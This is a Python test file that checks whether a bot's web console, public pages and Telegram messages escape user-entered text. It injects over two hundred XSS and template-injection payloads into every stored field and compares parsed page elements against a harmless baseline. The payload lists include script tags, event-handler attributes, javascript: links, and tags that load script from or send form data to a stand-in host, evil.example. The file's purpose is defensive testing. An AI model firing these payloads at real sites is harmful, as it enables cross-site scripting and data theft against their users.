"""What people type becomes no markup anywhere: more than two hundred payloads in every field, on every page of the console, the public pages, the chat's
page, and on Telegram. Judged by the elements and attributes that a parser finds, against the same pages with harmless words."""

import itertools
import re
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Connection, select, update

from bot.desk import Desk
from bot.markup import to_html, to_telegram
from bot.messages import Address
from bot.programme import Here, enquiries
from bot.tables import (
    announcement,
    answer_draft,
    application,
    application_file,
    attendee,
    city_entry,
    company,
    download,
    download_version,
    enquiry,
    enquiry_message,
    event,
    hotline_log,
    label_application,
    media_item,
    provider,
    quotation,
    registration,
    segment,
    source_code,
    staff,
)
from tests.an_announcement import TEXTS
from tests.conftest import MovedClock
from tests.console.client import Signed, console_open, signed_in
from tests.console.world import filled
from tests.talker import Talker

HARMLESS = "Plainwords"
# Where a careless page would put the words, and what would then come alive.
CONTEXTS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>", "</option></select>", "</td>", "&quot;>")
ALIVE = (
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<b>bold</b>", "<iframe src=//evil.example>"),
    *('<a href="javascript:alert(1)">x</a>', "<ScRiPt src=//evil.example/x.js>", "<details open ontoggle=alert(1)>", "<style>*{display:none}</style>"),
    *("<form action=//evil.example><input name=token>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0>", "<x onclick=alert(1) "),
    *("<math><mi//xlink:href='data:x'>", "＜script＞alert(1)＜/script＞", "<!--"),
)
QUIET = (
    *("**bold**", "*i*", "- item", "[text](https://evil.example)", "[x](javascript:alert(1))", "https://evil.example", "tg://user?id=1", "&lt;b&gt;"),
    *("&#60;b&#62;", "{{7*7}}", "{% for x in y %}", "${7*7}", "{ $name }", "%(name)s", "\u202ecba", "' onmouseover='alert(1)", "`x`", "\\", "_x_"),
    *('" onfocus="alert(1)" autofocus="', "javascript:alert(1)"),
)
PAYLOADS = (
    *(context + alive for context, alive in itertools.product(CONTEXTS, ALIVE)),
    *(context + quiet for context, quiet in itertools.product(("", '">'), QUIET)),
)
FIELDS = (
    *(company.c.name, application.c.contact_name, application_file.c.name, quotation.c.firm, quotation.c.address, attendee.c.name, registration.c.company),
    *(registration.c.contact, provider.c.name, provider.c.contact_name, provider.c.public_contact, label_application.c.name, label_application.c.contact_name),
    *(enquiry.c.question, enquiry_message.c.text, hotline_log.c.words, staff.c.name, announcement.c.name, segment.c.name, answer_draft.c.text),
    *(city_entry.c.source, media_item.c.outlet, media_item.c.title, media_item.c.note, source_code.c.what),
    download_version.c.source,
)
TEXTS_FIELDS = (event.c.title, event.c.place, announcement.c.texts, city_entry.c.texts, download.c.titles, download_version.c.digests)
# What would do something or look like something: of these no page may have one more or less. Rows and lists of our own may grow: the audit by each look,
# the remarks on an announcement by its words; they must be of a kind that some page has with harmless words.
ACTIVE = {
    *("script", "iframe", "object", "embed", "img", "svg", "math", "style", "link", "base", "meta", "form", "input", "button", "textarea", "select"),
    *("details", "template", "b", "i", "u", "strong", "em", "x", "mi"),
}
ROLES = ("case_officer", "publisher", "approver", "admin")


class Elements(HTMLParser):
    """The elements of a page with the names of their attributes, and whatever an attribute would run or fetch elsewhere."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: Counter[tuple[str, ...]] = Counter()
        self.odd: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found[(tag, *sorted(name for name, _ in attrs if not name.startswith("aria-")))] += 1
        for name, value in attrs:
            where = (value or "").strip().lower()
            bad = where.startswith(("javascript:", "data:text", "vbscript:")) or "evil.example" in where.partition("?")[0]
            if name in ("href", "src", "action", "formaction") and bad:
                self.odd.append(f"<{tag} {name}={value}>")


def strange(seen: Elements, plain: Counter[tuple[str, ...]], ours: set[tuple[str, ...]]) -> list[Any]:
    """What is on a page that is not on it with harmless words, and is not one more of our own rows."""
    more = (seen.found - plain) + (plain - seen.found)
    return [*seen.odd, *(kind for kind in more if kind[0] in ACTIVE or kind not in ours)]


async def put(desk: Desk, text: str) -> None:
    """The text into every field that somebody typed."""

    def work(connection: Connection) -> None:
        for column in FIELDS:
            connection.execute(update(column.table).values({column.name: text[: getattr(column.type, "length", None) or 4000]}))
        for column in TEXTS_FIELDS:
            connection.execute(update(column.table).values({column.name: dict.fromkeys(("zh-Hant", "zh-Hans", "en"), text)}))
        for row in connection.execute(select(application.c.id, application.c.facts)).all():
            connection.execute(update(application).where(application.c.id == row.id).values(facts=row.facts | {"description": text}))
        for line in connection.execute(select(label_application.c.id, label_application.c.answers)).all():
            connection.execute(update(label_application).where(label_application.c.id == line.id).values(answers=line.answers | {"account": text}))

    await desk.store.write(work)


async def world(desk: Desk, clock: MovedClock) -> None:
    """Something in every table that pages show words of."""
    await filled(desk, clock)
    now = clock.now()
    said = {"at": now, "by": "asker", "text": "x"}
    draft: dict[str, Any] = {"state": "draft", "topic": "events", "texts": TEXTS, "buttons": [], "rule": {}, "author_id": 1, "created_at": now}

    def work(connection: Connection) -> None:
        here = Here(connection, now, desk.knowledge, Address("web", "asker"), "zh-Hant")
        reference = enquiries.open_enquiry(here, question="x", reply_by="chat", contact=None)["reference"]
        connection.execute(enquiry_message.insert().values(reference=reference, **said))
        connection.execute(announcement.insert().values(name="x", **draft))
        connection.execute(segment.insert().values(name="x", rule={}, staff_id=1, created_at=now))
        connection.execute(answer_draft.insert().values(topic="x", text="x", state="draft", misses=[], enquiries=[], author_id=1, created_at=now))
        log = {"day": now.date().isoformat(), "channel": "web", "language": "zh-Hant", "outcome": "missed"}
        connection.execute(hotline_log.insert().values(words="x", **log))
        document = {"file_id": "d" * 32, "name": "x.pdf", "mime": "application/pdf", "size_bytes": 1, "digests": TEXTS, "changed": {}, "source": "x"}
        connection.execute(download.insert().values(slug="x", titles=TEXTS))
        connection.execute(download_version.insert().values(slug="x", number=1, day="2010-07-01", staff_id=1, at=now, **document))
        for kind in ("measure", "action"):
            days = {"due_on": "2026-01-01" if kind == "action" else None, "review_on": "2026-01-01", "updated_at": now}
            connection.execute(city_entry.insert().values(city="guangzhou", kind=kind, texts={}, source="x", staff_id=1, **days))
        connection.execute(media_item.insert().values(kind="report", day="2026-01-01", outlet="x", title="x", note="x", staff_id=1))
        connection.execute(source_code.insert().values(code="abc", how="press", what="x", staff_id=1, at=now))

    await desk.store.write(work)


def alike(link: str) -> str:
    """One page stands for all of its kind: of one case, of one city."""
    return re.sub(r"/cities/[a-z]+", "/cities/0", re.sub(r"\d+", "0", link))


async def pages_of(me: Signed) -> list[str]:
    """Every page of the console that can be reached by links, once each."""
    seen, left = {"/console"}, ["/console"]
    while left:
        path = left.pop(0)
        _, page = await me.get(path)
        for found in re.findall(r'href="(/console[^"#]*)"', page):
            link = found.replace("&amp;", "&")
            is_file = link.endswith((".xlsx", ".csv", ".docx")) or "/report/file" in link
            if not is_file and alike(link) not in {alike(each) for each in seen} and len(seen) < 150:
                seen.add(link)
                left.append(link)
    return sorted(seen)


async def looked_at(desk: Desk, clock: MovedClock, folder: Path, payloads: list[str]) -> tuple[int, int, list[str]]:
    """Compare every page with each payload in its fields against the same page with harmless words. Returns pages, comparisons, and what differed."""
    await world(desk, clock)
    wrong: list[str] = []
    compared = 0
    async with console_open(desk, clock, folder) as base:
        officers = [signed_in(desk, clock, base, role) for role in ROLES]
        people = [await each.__aenter__() for each in officers]
        try:
            await put(desk, HARMLESS)
            paths = {me.id: [*await pages_of(me), "/events", "/downloads", "/providers"] for me in people}
            shown = {(me.id, path): (await me.get(path))[1] for me in people for path in paths[me.id]}
            assert sum(HARMLESS in page for page in shown.values()) > 15  # the words do stand on the pages
            plain = {key: Elements(page).found for key, page in shown.items()}
            ours = {kind for found in plain.values() for kind in found}
            owner = Talker(desk, clock, "second")
            harmless = [Elements(to_html(text)).found + Elements(to_telegram(text)).found for text in await told(owner)]
            for payload in payloads:
                await put(desk, payload)
                for me in people:
                    for path in paths[me.id]:
                        status, page = await me.get(path)
                        seen = Elements(page)
                        compared += 1
                        if found := strange(seen, plain[me.id, path], ours) or (["an error"] if status >= 500 else []):
                            wrong.append(f"{path} with {payload!r}: {found}")
                marked = [Elements(to_html(text)).found + Elements(to_telegram(text)).found for text in await told(owner)]
                if marked != harmless:
                    wrong.append(f"in the chat with {payload!r}")
        finally:
            for each in officers:
                await each.__aexit__(None, None, None)
    return sum(map(len, paths.values())), compared, wrong


async def told(owner: Talker) -> list[str]:
    """What the bot tells the owner of a case, in its small markup."""
    await owner.says("/cancel")
    await owner.says("/status")
    return [message.text for message in owner.last]


def test_there_are_more_than_two_hundred_payloads_of_their_own() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) > 200


async def test_no_payload_becomes_an_element_on_any_page(desk: Desk, clock: MovedClock, tmp_path: Path) -> None:
    if not desk.store.sqlite:
        pytest.skip("pages do not depend on the database")
    pages, compared, wrong = await looked_at(desk, clock, tmp_path, list(PAYLOADS[::60]))
    assert wrong == [], "\n".join(wrong)
    assert pages > 50 and compared == pages * len(PAYLOADS[::60])


@pytest.mark.faults
async def test_none_of_all_payloads_becomes_an_element_on_any_page(desk: Desk, clock: MovedClock, tmp_path: Path) -> None:
    if not desk.store.sqlite:
        pytest.skip("pages do not depend on the database")
    pages, compared, wrong = await looked_at(desk, clock, tmp_path, list(PAYLOADS))
    print(f"\n{len(PAYLOADS)} payloads in {len(FIELDS) + len(TEXTS_FIELDS) + 2} fields on {pages} pages: {compared} comparisons, {len(wrong)} differences")
    assert wrong == []


def test_the_comparison_notices_an_element_and_an_attribute() -> None:
    """The control."""
    plain = Elements("<p>x</p><b>y</b><a href='/x'>z</a><input value='x'>").found
    ours = set(plain)
    assert not strange(Elements("<p>x</p><p>more</p><b>y</b><a href='/y'>z</a><input value='x'>"), plain, ours)
    assert strange(Elements("<p><b>x</b></p><b>y</b><a href='/x'>z</a><input value='x'>"), plain, ours)
    assert strange(Elements("<p>x</p><b>y</b><a href='/x'>z</a><input value='x' onfocus='y'>"), plain, ours)
    assert strange(Elements("<p onclick=z>x</p><b>y</b><a href='/x'>z</a><input value='x'>"), plain, ours)
    assert strange(Elements("<p>x</p><b>y</b><a href='javascript:x'>z</a><input value='x'>"), plain, ours)
